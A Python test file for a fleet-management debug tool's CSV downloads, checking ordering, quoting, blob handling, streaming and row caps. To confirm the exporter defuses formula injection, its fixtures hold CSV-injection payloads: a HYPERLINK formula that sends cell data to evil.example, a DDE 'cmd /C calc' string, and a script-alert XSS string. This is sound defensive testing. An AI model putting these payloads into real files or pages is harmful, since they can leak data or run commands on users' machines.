"""CSV downloads (?format=csv) of the machine and session lists, on a real PostgreSQL:
header, rows in the view's order, quoting, formula injection, blobs, streaming in keyset
pages, the row cap (in a header and on the page, never in the file)."""

from __future__ import annotations

import csv
import io
import re
from html import unescape

import pytest

from app.model import csv_export
from tests.fleet import ALIVE, DEAD, MACHINES, SMALL_FLEET, mid
from tests.support import cloned_database, proxied_webug, webug_client

BIG = bytes(range(256)) * 8000  # 2 MB: a hardware report as big as real ones get
HOSTILE = {
    "provider_id": '=HYPERLINK("http://evil.example/?"&A1,"click")',
    "provider_reservation_id": "+1+cmd|' /C calc'!A0",
    "provider_location": "-2+3",
    "provider_ip_address": "@SUM(1,2)",
}
FORMULA = ("=", "+", "-", "@", "\t", "\r")
AWKWARD = 'a,b "quoted";\nsecond line'

EXTRA = [
    f"INSERT INTO machine_hardware_report VALUES ('{mid(4)}', '\\x{BIG.hex()}')",
    "INSERT INTO machine_provided (machine_id, provider, provider_id, provider_reservation_id,"
    " provider_location, provider_ip_address) VALUES"
    f" ('{mid(5)}', 'Lumen', $${HOSTILE['provider_id']}$$,"
    f" $${HOSTILE['provider_reservation_id']}$$, '{HOSTILE['provider_location']}',"
    f" '{HOSTILE['provider_ip_address']}'),"
    f" ('{mid(6)}', 'Lumen', $${AWKWARD}$$, NULL, '\tfr5', NULL)",
    f"INSERT INTO machine_os_installation_request VALUES ('{mid(6)}', -1, '\\x00')",
    f"UPDATE sessions SET session_runtime_info = '=1+1' WHERE session_id = '{DEAD}'",
]


@pytest.fixture(scope="module")
def dsn(pg_server_dsn, migrated_template):
    with cloned_database(pg_server_dsn, migrated_template, *SMALL_FLEET, *EXTRA) as dsn:
        yield dsn


@pytest.fixture(scope="module")
def client(dsn):
    with webug_client(dsn) as c:
        yield c


def download(client, url: str) -> tuple[list[str], list[dict[str, str]], object]:
    """(header, rows as dicts, response) of a CSV download."""
    response = client.get(url)
    assert response.status_code == 200, response.text[:500]
    assert response.headers["content-type"] == "text/csv; charset=utf-8"
    assert response.headers["content-disposition"].startswith("attachment; filename=")
    table = list(csv.reader(io.StringIO(response.text)))
    header, rows = table[0], table[1:]
    return header, [dict(zip(header, row, strict=True)) for row in rows], response


def test_header_then_one_row_per_machine_with_tag_fields_as_columns(client):
    header, rows, _ = download(client, "/?format=csv")
    assert header[:4] == ["machine_id", "created_at", "work", "backoffs"]
    for column in (
        "Provided.provider", "Provided.provider_id", "Provided.provider_status",
        "AgentStarted.agent_started_at", "AgentStarted.agent_public_key",
        "AgentStarted.agent_public_key.url", "HardwareReport.hardware_report_raw",
        "HardwareReport.hardware_report_raw.url", "OSInstallationRequest.generation",
    ):  # fmt: skip
        assert column in header, column
    assert [r["machine_id"] for r in rows] == [str(mid(n)) for n in range(1, MACHINES + 1)]
    one = rows[0]
    assert one["Provided.provider"] == "Equinix" and one["Provided.provider_id"] == "eq-aaa"
    assert one["Provided.provider_ip_address"] == "10.0.0.1"
    assert re.fullmatch(r"\d{4}-\d\d-\d\dT\d\d:\d\d:\d\d\.\d+Z", one["created_at"])
    assert one["work"] == f"ShepherdAccess: shepherd-equinix (session {ALIVE}, alive)"
    assert rows[3]["Provided.provider"] == ""  # no Provided tag: empty cells
    two = rows[1]
    assert two["work"] == f"ShepherdAgentStart: shepherd-lumen (session {DEAD}, stale)"
    assert re.fullmatch(
        r"ShepherdAccess until \S+Z \(active, 600 s\):"
        r" ssh: connection refused <script>alert\(1\)</script>",
        two["backoffs"],
    )  # CSV is not HTML: the text as stored
    assert rows[2]["backoffs"].startswith("ShepherdRecovery until ") and "(expired, 60 s)" in (
        rows[2]["backoffs"]
    )


def test_rows_follow_the_filter_and_the_order(client):
    _, rows, _ = download(client, "/?provider=Equinix&format=csv")
    assert [r["machine_id"] for r in rows] == [str(mid(1)), str(mid(3))]
    _, rows, _ = download(client, "/?sort=created&format=csv")  # machine n: n days old
    assert [r["machine_id"] for r in rows] == [str(mid(n)) for n in range(MACHINES, 0, -1)]
    _, rows, _ = download(client, "/?sort=-backoff&text=refused&format=csv")
    assert [r["machine_id"] for r in rows] == [str(mid(2))]


def test_the_page_is_ignored_a_download_is_every_page(client):
    _, rows, _ = download(client, f"/?after={mid(5)}&limit=2&format=csv")
    assert len(rows) == MACHINES


def test_cells_that_a_spreadsheet_would_run_as_formulas_are_defused(client):
    _, rows, response = download(client, "/?format=csv")
    five = rows[4]
    for field, value in HOSTILE.items():
        assert five[f"Provided.{field}"] == "'" + value, field  # a leading ' : text, not formula
    assert rows[5]["Provided.provider_location"] == "'\tfr5"  # a tab starts a formula too
    assert rows[5]["OSInstallationRequest.generation"] == "-1"  # a number stays a number
    for row in rows:  # no cell of the file but a number starts a formula
        for cell in row.values():
            assert not cell.startswith(FORMULA) or re.fullmatch(r"-\d+", cell), cell
    assert '"\'=HYPERLINK(""http://evil.example/?""&A1,""click"")"' in response.text


def test_every_cell_is_quoted_and_awkward_text_survives(client):
    _, rows, response = download(client, "/?format=csv")
    assert rows[5]["Provided.provider_id"] == AWKWARD
    first_line = response.text.split("\r\n", 1)[0]
    assert first_line.startswith('"machine_id","created_at","work","backoffs",')


def test_blobs_are_their_length_and_a_download_url_never_their_bytes(client):
    _, rows, response = download(client, "/?format=csv")
    four = rows[3]
    assert four["HardwareReport.hardware_report_raw"] == str(len(BIG))
    url = four["HardwareReport.hardware_report_raw.url"]
    assert url == f"http://localhost/machine/{mid(4)}/tag/HardwareReport/hardware_report_raw"
    assert client.get(url.removeprefix("http://localhost")).content == BIG
    assert rows[0]["AgentStarted.agent_public_key"] == "2"
    assert len(response.content) < 20_000  # 2 MB of report, a few KB of CSV
    assert BIG[:64].hex() not in response.text


def test_blob_arrays_are_their_lengths_read_without_their_bytes(pg_server_dsn, migrated_template):
    """The BMDB sends the elements' lengths, not the elements (as hex text: twice their size)."""
    megabyte = "'\\x" + "ab" * 1024 * 1024 + "'::bytea"
    with cloned_database(
        pg_server_dsn, migrated_template, *SMALL_FLEET,
        "CREATE TABLE machine_firmware (machine_id uuid PRIMARY KEY REFERENCES machines,"
        " images bytea[])",
        f"INSERT INTO machine_firmware VALUES ('{mid(1)}', ARRAY[{megabyte}, NULL, {megabyte},"
        f" '\\x010203'::bytea]), ('{mid(2)}', '{{}}'), ('{mid(3)}', NULL)",
    ) as dsn, proxied_webug(dsn) as (proxy, proxied):
        received = proxy.total.server_bytes
        _, rows, response = download(proxied, "/?format=csv")
        received = proxy.total.server_bytes - received
    assert [r["Firmware.images"] for r in rows[:4]] == ["[1048576,null,1048576,3]", "[]", "", ""]
    assert received < 100_000, received  # 2 MB of blobs, kilobytes read
    assert len(response.content) < 20_000


def test_a_download_streams_keyset_pages(client, monkeypatch):
    """With pages of 5 machines, a download of 12 is three statements' pages, in order,
    in every kind of order (by ID, by a key every machine has, by a key some lack)."""
    monkeypatch.setattr(csv_export, "PAGE_ROWS", 5)
    for sort, expected in [
        ("id", list(range(1, MACHINES + 1))),
        ("-created", list(range(1, MACHINES + 1))),
        ("-heartbeat", list(range(MACHINES, 0, -1))),  # nobody heartbeats: all by ID
        ("backoff", [2, *[n for n in range(1, MACHINES + 1) if n != 2]]),
    ]:
        _, rows, response = download(client, f"/?sort={sort}&format=csv")
        assert [r["machine_id"] for r in rows] == [str(mid(n)) for n in expected], sort
        assert "content-length" not in response.headers  # streamed, not built whole


def test_the_row_cap_is_in_a_header_and_on_the_page_never_in_the_file(dsn, monkeypatch):
    monkeypatch.setattr(csv_export, "PAGE_ROWS", 2)
    with webug_client(dsn, csv_row_cap=5) as client:
        header, rows, response = download(client, "/?format=csv")
        assert response.headers["X-Webug-Row-Cap"] == "5"
        assert [r["machine_id"] for r in rows] == [str(mid(n)) for n in range(1, 6)]
        assert "cap" not in response.text.lower() and "5 rows" not in response.text
        page = client.get("/?provider=Lumen&sort=-created&limit=50").text
        link = re.search(r'<a id="csv-download" href="([^"]+)" download>', page)
        assert link and unescape(link.group(1)) == "/?provider=Lumen&sort=-created&format=csv"
        assert re.search(r'id="csv-cap">[^<]*at most 5 rows', page)
        sessions = client.get("/sessions").text
        assert re.search(r'id="csv-cap">[^<]*at most 5 rows', sessions)


def test_a_bad_filter_is_a_400_not_a_broken_download(client):
    for query, says in (
        ("has=Nope&format=csv", "no tag type &#39;Nope&#39; in this BMDB"),
        ("sort=size&format=csv", "sort: String should match pattern"),
        ("sort=created&after=x&format=csv", "is not a page of sort=created"),
    ):
        response = client.get("/?" + query)
        assert response.status_code == 400, query
        assert "text/csv" not in response.headers["content-type"]
        assert says in response.text, query


def test_sessions_csv(client, monkeypatch):
    monkeypatch.setattr(csv_export, "PAGE_ROWS", 1)  # two sessions: two pages, and an empty one
    header, rows, response = download(client, "/sessions?format=csv")
    assert header == [
        "session_id", "component", "runtime_info", "created_at", "interval_seconds",
        "deadline", "alive", "held_work",
    ]  # fmt: skip
    assert response.headers["X-Webug-Row-Cap"] == "100000"
    alive, dead = rows
    assert alive["session_id"] == str(ALIVE) and dead["session_id"] == str(DEAD)
    assert alive["component"] == "shepherd-equinix" and alive["runtime_info"] == "pid 42"
    assert alive["alive"] == "true" and dead["alive"] == "false"
    assert alive["interval_seconds"] == "60" and alive["held_work"] == "1"
    assert dead["runtime_info"] == "'=1+1"  # defused
    assert re.fullmatch(r"\d{4}-\d\d-\d\dT\d\d:\d\d:\d\d\.\d+Z", dead["deadline"])
    _, rows, _ = download(client, "/sessions?state=expired&format=csv")
    assert [r["session_id"] for r in rows] == [str(DEAD)]
    _, rows, _ = download(client, "/sessions?component=shepherd-equinix&format=csv")
    assert [r["session_id"] for r in rows] == [str(ALIVE)]


def test_the_lists_link_their_download(client):
    page = client.get("/?has=Provided&sort=-heartbeat&text=eq&limit=50").text
    link = re.search(r'<a id="csv-download" href="([^"]+)" download>', page)
    assert link and unescape(link.group(1)) == "/?has=Provided&text=eq&sort=-heartbeat&format=csv"
    sessions = client.get("/sessions?state=expired").text
    link = re.search(r'<a id="csv-download" href="([^"]+)" download>', sessions)
    assert link and unescape(link.group(1)) == "/sessions?state=expired&format=csv"
    assert re.search(r'id="csv-cap">[^<]*at most 100000 rows', sessions)
